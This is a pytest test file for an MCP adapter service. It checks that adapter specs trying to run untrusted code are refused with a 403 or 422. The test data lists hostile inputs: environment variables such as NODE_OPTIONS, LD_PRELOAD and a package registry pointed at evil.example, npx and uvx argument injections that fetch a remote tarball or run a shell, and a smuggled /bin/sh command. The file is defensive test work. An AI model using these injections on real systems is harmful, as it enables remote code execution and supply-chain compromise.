"""Issue 12, section 1: adapters that tried to run what the trusted-servers list does not vouch for.

Each attack is POSTed to a real `mcp-adapters serve` process; the refusal must name what to change.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import EVERYTHING
from tests.service.conftest import ServiceProcess, adapter_pids, everything_spec, wait_for

TRUSTED = {
    "images": ["mcp-proxy"],
    "commands": ["npx", "uvx", "*python*"],
    "packages": ["@azure/mcp@*", "mcp-server-fetch"],
    "upstreamHosts": ["*"],
}
WHO = {"X-Dev-UserId": "mallory", "X-Dev-Roles": "Tools.Read"}
NPX = {"MCP_COMMAND": "npx", "MCP_ARGS": "-y @azure/mcp@latest server start"}
UVX = {"MCP_COMMAND": "uvx", "MCP_ARGS": "mcp-server-fetch"}

# 1.1: next to a trusted command, each of these ran code or fetched from a source the list does not vouch for.
ENVIRONMENT_ATTACKS = [
    (NPX, "NODE_OPTIONS", "--require /tmp/evil.js"),
    (NPX, "NODE_OPTIONS", "--import=data:text/javascript,process.exit(7)"),
    (NPX, "LD_PRELOAD", "/tmp/evil.so"),
    (NPX, "PATH", "/tmp/evil:/usr/bin"),
    (UVX, "PYTHONPATH", "/tmp/evil"),
    (NPX, "BASH_ENV", "/tmp/evil.sh"),
    (NPX, "HOME", "/tmp/evil-home"),
    (NPX, "npm_config_registry", "https://evil.example"),
    (UVX, "UV_INDEX_URL", "https://evil.example/simple"),
    (NPX, "MCP_CWD", "/tmp/fake-package"),
    (NPX, "Node_Options", "--require /tmp/evil.js"),
]
# 1.3: arguments npx/uvx read as their own options or as a package from elsewhere.
ARGUMENT_ATTACKS = [
    ("npx", "--@azure:registry=https://evil.example -y @azure/mcp@latest", "--@azure:registry"),
    ("npx", "--script-shell=/tmp/evil.sh -y @azure/mcp@latest", "--script-shell"),
    ("npx", "-y -p @azure/mcp@latest node -e 'process.exit(7)'", "'node'"),
    ("npx", "-y @azure/mcp@npm:evil-package", "@azure/mcp@npm:evil-package"),
    ("npx", "-y @azure/mcp@https://evil.example/evil.tgz", "@azure/mcp@https://evil.example/evil.tgz"),
    ("npx", "-y @azure/mcp@file:../evil", "@azure/mcp@file:../evil"),
    ("uvx", "--with-requirements /tmp/evil.txt mcp-server-fetch", "--with-requirements"),
    ("uvx", "--config-file /tmp/uv.toml mcp-server-fetch", "--config-file"),
    ("uvx", "--env-file /tmp/evil.env mcp-server-fetch", "--env-file"),
    ("uvx", "--from mcp-server-fetch python -c 'print(7)'", "'python'"),
]


def post(api: httpx.Client, name: str, env: dict[str, str]) -> httpx.Response:
    body = {"name": name, "imageName": "mcp-proxy", "imageVersion": "1.0.0", "environmentVariables": env}
    return api.post("/adapters", json=body)


def refusal(response: httpx.Response) -> str:
    return json.dumps(response.json())


@pytest.fixture
def guarded(start_service: Any) -> httpx.Client:
    service: ServiceProcess = start_service(MCP_ADAPTERS_TRUSTED_SERVERS=json.dumps(TRUSTED))
    return service.api(**WHO)


def test_the_environment_cannot_change_what_a_trusted_command_runs(guarded: httpx.Client) -> None:
    for i, (server, name, value) in enumerate(ENVIRONMENT_ATTACKS):
        refused = post(guarded, f"env-{i}", {**server, name: value})
        assert refused.status_code == 403, (name, refused.text)
        assert f"{name} changes" in refusal(refused), refused.text
        assert "remove it" in refusal(refused)
    assert guarded.get("/adapters").json() == []  # nothing was recorded, so nothing will run


def test_mcp_args_run_only_the_trusted_package(guarded: httpx.Client) -> None:
    for i, (command, args, named) in enumerate(ARGUMENT_ATTACKS):
        refused = post(guarded, f"args-{i}", {"MCP_COMMAND": command, "MCP_ARGS": args})
        assert refused.status_code == 403, (args, refused.text)
        assert named in refusal(refused), refused.text


@pytest.mark.parametrize("trusted", [False, True], ids=["no-list", "list"])
def test_another_spelling_of_a_proxy_setting_is_refused(start_service: Any, trusted: bool) -> None:
    settings = {"MCP_ADAPTERS_TRUSTED_SERVERS": json.dumps(TRUSTED)} if trusted else {}
    api = start_service(**settings).api(**WHO)
    # 1.2: the lower-case spelling switched off the bridge's egress guard; a second MCP_COMMAND ran the shell.
    guard_off = {"MCP_PROXY_URL": "http://127.0.0.1:9/mcp", "mcp_bridge_upstream_allow_local": "true"}
    shell = {**NPX, "mcp_command": "/bin/sh"}
    for i, env in enumerate([guard_off, shell]):
        refused = post(api, f"spelling-{i}", env)
        assert refused.status_code == 422, refused.text  # the spec itself is invalid, list or not
        assert "is another spelling of" in refusal(refused), refused.text


def test_an_admitted_server_gets_its_own_variables_and_not_the_bridges(start_service: Any) -> None:
    service = start_service(MCP_ADAPTERS_TRUSTED_SERVERS=json.dumps(TRUSTED))
    api = service.api(**WHO)
    spec = everything_spec("admitted")
    spec["environmentVariables"]["ADAPTER_SETTING"] = "on"
    assert api.post("/adapters", json=spec).status_code == 201, spec
    wait_for(lambda: api.get("/adapters/admitted/status").json()["phase"] == "Ready", what="the adapter to be Ready")

    def server_environments() -> list[dict[str, str]]:
        found = []
        for pid in adapter_pids(service.state_dir):
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
                raw = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
            except OSError:
                continue
            if str(EVERYTHING).encode() in cmdline and cmdline[0] == sys.executable.encode():
                found.append(dict(item.decode().partition("=")[::2] for item in raw if item))
        return found

    environments = wait_for(server_environments, what="the adapter's server processes")
    for env in environments:
        assert env["ADAPTER_SETTING"] == "on"
        assert not [k for k in env if k.upper().startswith(("MCP_BRIDGE_", "MCP_COMMAND", "MCP_ARGS", "PORT"))]
        assert not [k for k in env if k.startswith("MCP_ADAPTERS_") and k != "MCP_ADAPTERS_OWNER"]
